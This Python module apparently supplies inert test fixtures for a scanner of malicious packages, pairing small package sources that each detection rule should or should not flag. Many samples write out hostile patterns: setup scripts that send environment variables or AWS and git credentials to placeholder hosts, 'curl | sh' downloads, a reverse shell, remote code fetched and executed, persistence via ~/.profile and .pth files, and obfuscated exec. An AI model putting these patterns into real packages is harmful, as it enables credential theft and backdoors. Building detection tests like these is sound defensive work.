"""Inert sources for tests and demonstrations. Hosts end in .invalid; encoded values decode to a print."""

from __future__ import annotations

import base64
import binascii
import zlib

_TEXT = b"print('nothing happens')"
_PACKED = base64.b64encode(zlib.compress(_TEXT)).decode()
_HEXED = binascii.hexlify(_TEXT).decode()
_PLAIN = "from setuptools import setup\nsetup(name='plain', version='1')\n"

#: For each rule: {package: ({path: text}, whether the rule must fire)}.
PAIRS: dict[str, dict[str, tuple[dict[str, str], bool]]] = {
    "EXF-001": {
        "paint_mixer": ({"setup.py": "import os\nimport httpx\nsettings = {k: v for k, v in os.environ.items()}\nhttpx.post('https://collect.invalid/in', json=settings)\n"}, True),
        "leaf_counter": (
            {
                "leaf/__init__.py": "",
                "leaf/report.py": "import os\nimport urllib3\n\nclass Report:\n    def __init__(self, pool):\n        self.pool = pool\n\n    def flush(self, mark):\n        urllib3.request('POST', 'https://collect.invalid', fields={'m': mark})\n\ndef nightly():\n    r = Report(3)\n    r.flush(os.getenv('LEAF_KEY'))\n",
            },
            True,
        ),
        "timer_post": ({"timer_post/__init__.py": "import os, threading, httpx\n\ndef deliver(note):\n    httpx.put('https://collect.invalid', content=note)\n\nt = threading.Timer(5, deliver, args=(os.environ['BUILD_ID'],))\nt.start()\n"}, True),
        "kite_shop": ({"kite/__init__.py": "import os, httpx\nhome = os.getenv('KITE_HOME')\npage = httpx.get('https://pypi.org/simple/kite')\nprint(home, page.status_code)\n"}, False),
        "timer_quiet": ({"timer_quiet/__init__.py": "import os, threading, httpx\n\ndef ping(word, extra):\n    httpx.get(word)\n\nb = os.environ['BUILD_ID']\nthreading.Timer(5, ping, args=('https://pypi.org', b)).start()\n"}, False),
    },
    "EXF-002": {
        "note_sync": ({"setup.py": "from pathlib import Path\nimport httpx\nbody = Path('~/.aws/credentials').read_text()\nhttpx.put('https://collect.invalid', content=body)\n"}, True),
        "key_check": ({"key_check/__init__.py": "import os\nfor name in ('~/.ssh/id_ed25519', '~/.ssh/id_dsa'):\n    if os.path.exists(os.path.expanduser(name)):\n        print('found', name)\n"}, False),
        "git_store": ({"git_store/__init__.py": "import socket\nlines = open('~/.git-credentials').readlines()\ns = socket.socket()\ns.sendall(''.join(lines).encode())\n"}, True),
    },
    "EXF-003": {
        "badge": ({"badge/__init__.py": "import getpass, requests\n\ndef register(host):\n    who = getpass.getuser()\n    return requests.get(f'https://{host}.invalid/hello?u={who}')\n"}, True),
        "motd": ({"motd/__init__.py": "import socket\nprint('Welcome to ' + socket.getfqdn())\n"}, False),
    },
    "EXF-004": {
        "screen_note": ({"screen_note/__init__.py": "import requests\nfrom PIL import ImageGrab\n\ndef share():\n    picture = ImageGrab.grab()\n    requests.post('https://collect.invalid', files={'p': picture})\n"}, True),
        "screen_save": ({"screen_save/__init__.py": "from PIL import ImageGrab\nImageGrab.grab().save('screen.png')\n"}, False),
    },
    "DRP-001": {
        "plugin_loader": ({"plugin_loader/__init__.py": "import httpx\n\ndef load(name):\n    text = httpx.get('https://plugins.invalid/' + name).text\n    exec(compile(text, name, 'exec'), {})\n"}, True),
        "feed_steps": ({"setup.py": "from urllib import request\nsteps = request.urlopen('https://files.invalid/steps').read().decode()\nfor step in steps.splitlines():\n    exec(step)\n"}, True),
        "shell_feed": ({"shell_feed/__init__.py": "import subprocess, httpx\nrun = subprocess.Popen('bash', stdin=subprocess.PIPE)\nrun.stdin.write(httpx.get('https://files.invalid/steps').content)\n"}, True),
        "rate_table": ({"rate_table/__init__.py": "import httpx\nrates = httpx.get('https://pypi.org/rates.json').json()\nprint(rates['EUR'])\n"}, False),
    },
    "DRP-002": {
        "tool_fetch": ({"setup.py": "import subprocess, wget\nplace = 'helper.bin'\nwget.download('https://files.invalid/helper', place)\nsubprocess.run([place, '--quiet'])\n"}, True),
        "font_setup": ({"setup.py": "import os\nimport httpx\nscript = 'fonts.sh'\nwith open(script, 'w') as out:\n    out.write(httpx.get('https://files.invalid/fonts').text)\nos.popen('sh ' + script)\n"}, True),
        "map_tiles": ({"map_tiles/__init__.py": "import httpx\nplace = 'tile.png'\nwith open(place, 'wb') as out:\n    out.write(httpx.get('https://pypi.org/tile').content)\n"}, False),
    },
    "DRP-003": {
        "post_setup": ({"setup.py": "import subprocess\nsubprocess.call('wget -qO- http://files.invalid/go | bash', shell=True)\n"}, True),
        "list_here": ({"setup.py": "import os\nos.system('ls -l')\n"}, False),
    },
    "OBF-001": {
        "zip_layers": ({"setup.py": f"import base64, zlib\nlayer = zlib.decompress(base64.b64decode('{_PACKED}'))\nexec(layer)\n"}, True),
        "hex_eval": ({"hex_eval/__init__.py": f"import binascii\neval(binascii.unhexlify('{_HEXED}'))\n"}, True),
        "octal_exec": ({"octal_exec/__init__.py": "exec('\\x70\\x61\\x73\\x73\\x20\\x23\\x20\\x6e\\x6f')\n"}, True),
        "hex_show": ({"hex_show/__init__.py": f"import binascii\nprint(binascii.unhexlify('{_HEXED}'))\n"}, False),
    },
    "OBF-002": {
        "late_import": ({"late_import/__init__.py": "import codecs, importlib\nname = codecs.decode('wfba', 'rot13')\nmod = importlib.import_module(name)\n"}, True),
        "backend_pick": ({"backend_pick/__init__.py": "import importlib\n\ndef pick(kind):\n    return importlib.import_module('backend_pick.' + kind)\n"}, False),
    },
    "BKD-001": {
        "remote_tty": ({"remote_tty/__init__.py": "import os, socket\nline = socket.socket()\nline.connect(('198.51.100.4', 9001))\nfor n in range(3):\n    os.dup2(line.fileno(), n)\n"}, True),
        "log_pipe": ({"log_pipe/__init__.py": "import os\nlog = open('run.log', 'a')\nos.dup2(log.fileno(), 2)\n"}, False),
    },
    "PER-001": {
        "profile_helper": ({"setup.py": "import os, httpx\ntarget = os.path.expanduser('~/.profile')\nextra = httpx.get('https://files.invalid/p').text\nopen(target, 'a').write(extra)\n"}, True),
        "site_hook": ({"setup.py": "import os, site, httpx\nhook = os.path.join(site.getusersitepackages(), 'hook.pth')\nwith open(hook, 'w') as out:\n    out.write(httpx.get('https://files.invalid/h').text)\n"}, True),
        "prompt_line": ({"prompt_line/__init__.py": "import os\nwith open(os.path.expanduser('~/.zshrc'), 'a') as out:\n    out.write('PROMPT=%n')\n"}, False),
    },
    "SAB-001": {
        "tidy_up": ({"tidy_up/__init__.py": "import os\nfrom pathlib import Path\n\ndef tidy():\n    os.remove(os.path.expanduser('~/.bash_history'))\n"}, True),
        "drop_cache": ({"setup.py": "import shutil\nshutil.rmtree('.cache', ignore_errors=True)\n"}, False),
    },
    "INS-001": {"version_ping": ({"setup.py": "import httpx\n\ndef newest():\n    return httpx.get('https://pypi.org/pypi/x/json').json()\n\nnewest()\n"}, True), "plain_one": ({"setup.py": _PLAIN}, False)},
    "INS-002": {
        "build_step": ({"setup.py": "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n\nclass Build(build_py):\n    def run(self):\n        self.check()\n\n    def check(self):\n        eval('1 + 1')\n\nsetup(cmdclass={'build_py': Build})\n"}, True),
        "late_eval": ({"setup.py": _PLAIN, "late_eval/__init__.py": "def later(x):\n    return eval(x)\n"}, False),
    },
    "INS-003": {
        "read_hosts": ({"setup.py": "def known():\n    with open('~/.ssh/known_hosts') as f:\n        return f.read()\n\nknown()\n"}, True),
        "flags": ({"setup.py": "import os\nprint(os.environ.get('LDFLAGS', ''))\n"}, False),
    },
}

#: Packages that show what graph building does: names, calls, flows, phases. {package: {path: text}}.
SHAPES: dict[str, dict[str, str]] = {
    # scopes, lambdas, relative imports, a dynamic import, a src folder
    "garden": {
        "src/garden/__init__.py": "from .beds import plan as layout\nfrom . import beds\n",
        "src/garden/beds.py": "import os.path\nimport numpy as np\nfrom ..tools import rake\ntoml = __import__('tomllib')\n\nclass Bed:\n    size = 1\n    def dig(self):\n        def deeper():\n            return (lambda d: d)(2)\n        return deeper()\n\ndef plan(rows):\n    return np.zeros(rows)\n",
    },
    # a call to each kind of target
    "calls": {
        "calls/__init__.py": "",
        "calls/base.py": "import json\n\nclass Oven:\n    def __init__(self, heat):\n        self.heat = heat\n    def bake(self, dough):\n        return self.turn(dough)\n    def turn(self, dough):\n        return dough\n\nclass Pan:\n    def fry(self, x):\n        return x\n\nclass Wok:\n    def fry(self, x):\n        return x\n\ndef helper(v):\n    return json.dumps(v)\n\ndef decorate(f):\n    return f\n",
        "calls/use.py": "import os, threading\nfrom .base import Oven, helper, decorate\nfrom . import base\n\n@decorate\ndef main(thing):\n    o = Oven(200)\n    o.bake('bread')\n    thing.fry('egg')\n    base.helper(1)\n    getattr(os, 'system')('true')\n    threading.Thread(target=helper, args=('x',)).start()\n    globals()['main']()\n    return helper(2)\n",
    },
    # types of names and attributes
    "types": {
        "types_/__init__.py": "import socket, discord\n\nclass Link:\n    def __init__(self):\n        self.line = socket.socket()\n        self.hook = None\n        self.mixed = socket.socket()\n    def open(self):\n        self.hook = discord.SyncWebhook.from_url('u')\n        self.mixed = 'text'\n    def go(self, data):\n        self.line.send(data)\n        self.hook.send(data)\n        self.mixed.send(data)\n\ndef once(data):\n    s = socket.socket()\n    s.connect(data)\n\ndef twice(data):\n    s = socket.socket()\n    s = open('f')\n    s.connect(data)\n",
    },
    # one statement of a kind a line
    "flows": {
        "flows.py": "import base64, json\n\ndef f(a, b='dflt', *rest, **more):\n    c = a\n    d, e = c, b\n    g = [x for x in d]\n    h = {'k': e}\n    h['z'] = g\n    i = f'{h}!'\n    j = base64.b64encode(i)\n    k = json.dumps(j)\n    l = unknown(k)\n    m = l.strip()\n    m += a\n    for n in m:\n        o = n\n    with open(o) as p:\n        q = p.read()\n    r = (lambda t: t)(q)\n    if (u := r):\n        return u\n    s = not u\n    return more\n\nf('in', b='x', *['y'], **{'w': 'z'})\n",
    },
    # guards on the surroundings
    "guards": {
        "guards.py": "import os, platform, httpx\nif platform.system() == 'Linux':\n    httpx.get('https://pypi.org/a')\nhttpx.get('https://pypi.org/b')\n",
    },
    # a hub for calls with many targets
    "hub": {"hub.py": "".join(f"class C{k}:\n    def go(self, v):\n        return v\n" for k in range(10)) + "def run(x, y):\n    return x.go(y)\n"},
    # handles, downloads, interpreters
    "files": {
        "files.py": "import subprocess, sys, urllib.request\nplace = 'a.bin'\nh = open(place, 'w')\nh.write('text')\nurllib.request.urlretrieve('https://files.invalid', place)\np = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\np.communicate('code')\nsubprocess.run('bash', input='more')\nsubprocess.Popen(['python', 'known.py']).communicate('data')\n",
    },
    # roots of every phase
    "roots": {
        "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\nimport roots_tasks\n\nclass Own(install):\n    def run(self):\n        roots_tasks.work()\n\nsetup(cmdclass={'install': Own})\n",
        "roots_tasks.py": "def work():\n    return deeper()\n\ndef deeper():\n    return 1\n\ndef idle():\n    return 2\n",
        "roots_pkg/__init__.py": "def start():\n    return 3\n\nstart()\n",
        "roots_pkg/inner.py": "def never():\n    return 4\n",
    },
    # sources of every kind
    "origins": {
        "origins.py": "import os, getpass, pyperclip, httpx, base64, codecs\nv1 = os.environ['A']\nv2 = getpass.getuser()\nv3 = pyperclip.paste()\nv4 = httpx.get('https://pypi.org')\nv5 = open('~/.netrc')\nv6 = base64.b64decode('aGk=')\nv7 = base64.b64decode(v1)\nv8 = codecs.decode('uv', 'rot13')\nv9 = '\\x68\\x69\\x20\\x74\\x68\\x65\\x72\\x65'\nw1 = 'http://pay.invalid/x'\nw2 = 'https://pypi.org/x'\nw3 = '203.0.113.9'\nw4 = 'curl http://x.invalid | sh'\nw5 = 'a/b'.split('/')\nw6 = '~/'\n",
    },
    # sinks of every kind
    "ends": {
        "ends.py": "import os, shutil, subprocess, socket, importlib, site, winreg\n\ndef f(a):\n    exec(a)\n    eval(a, a)\n    subprocess.run(['x', a], env=a)\n    os.system(a)\n    shutil.rmtree(a)\n    os.dup2(a, 1)\n    __import__(a)\n    importlib.import_module(a)\n    socket.create_connection(a)\n    open(os.path.expanduser('~/.bashrc'), 'a').write(a)\n    open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write(a)\n    open('/etc/cron.d/x', 'w').write(a)\n    open('notes.txt', 'w').write(a)\n    winreg.SetValueEx(a)\n    print(a)\n",
    },
    # errors cost their own statement
    "broken": {"broken.py": "import os\nprint 'old'\nx = = 1\ndef f(:\n    pass\nos.system('curl http://x.invalid | sh')\n"},
}


def packages() -> dict[str, dict[str, str]]:
    return {name: files for pairs in PAIRS.values() for name, (files, _) in pairs.items()} | SHAPES
